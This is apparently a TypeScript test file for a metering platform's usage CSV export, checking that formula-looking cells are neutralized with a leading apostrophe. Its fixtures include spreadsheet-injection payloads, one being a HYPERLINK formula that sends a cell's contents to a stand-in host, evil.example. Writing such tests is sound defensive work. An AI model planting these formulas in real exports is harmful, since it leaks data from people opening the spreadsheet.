// The usage CSV export cannot carry a spreadsheet formula: a text cell starting with = + - @ tab or CR is written
// as text (leading apostrophe), numbers stay numbers.
import { expect } from 'chai';
import { api, createAgent, type TestPlatform, type TestUser } from '../support/test-platform';
import { platformWithOwner } from '../support/platform-with-owner';
import { meterEventFixture } from '../support/meter-events';
import { neutralizeFormula } from '../../server/metering/usage.service';

describe('usage CSV export', function () {
  this.timeout(60_000);
  const platformAndOwner = platformWithOwner();
  let platform: TestPlatform;
  let owner: TestUser;
  before(() => ({ platform, owner } = platformAndOwner));

  it('neutralizes formula-looking text cells and leaves other cells as they are', () => {
    for (const formula of ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(neutralizeFormula(formula)).to.equal(`'${formula}`);
    }
    for (const plain of ['gpt-4o-mini', 'openai', 'req_abc', '', "'already"]) expect(neutralizeFormula(plain)).to.equal(plain);
  });

  it('a model name that is a formula reaches export.csv as text', async () => {
    // An own-key agent: its model is in its export (a managed call's model is left out of the customer's file).
    const agent = await createAgent(platform.url, owner, { mode: 'byok', provider: 'custom', model: 'any-model', apiKey: 'custom-endpoint-key', baseUrl: 'https://llm.example.com/v1' });
    const model = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    platform.platform.meter.record(
      meterEventFixture({
        requestId: `req_csv_${agent.id}`,
        agentId: agent.id,
        workspaceId: owner.workspace.id,
        provider: 'custom',
        model,
        tier: null,
        mode: 'byok',
        plan: null,
        credential: 'byok:test',
        priceSnapshot: { inputUsdPerMillion: 1, outputUsdPerMillion: 2, overageUsdPerMillion: 3, includedTokens: 1_000_000 },
      }),
    );
    await platform.platform.meter.drain();
    const month = new Date().toISOString().slice(0, 7);
    const csv = await api(platform.url, 'GET', `/api/workspaces/${owner.workspace.id}/usage/export.csv?month=${month}`, { token: owner.token });
    expect(csv.status).to.equal(200);
    const row = csv.text.split('\n').find((line) => line.includes(`req_csv_${agent.id}`))!;
    expect(row).to.contain(`"'=HYPERLINK(`);
    expect(row).to.not.match(/,"?=HYPERLINK/);
    expect(row).to.match(/,10,5,/);
  });
});
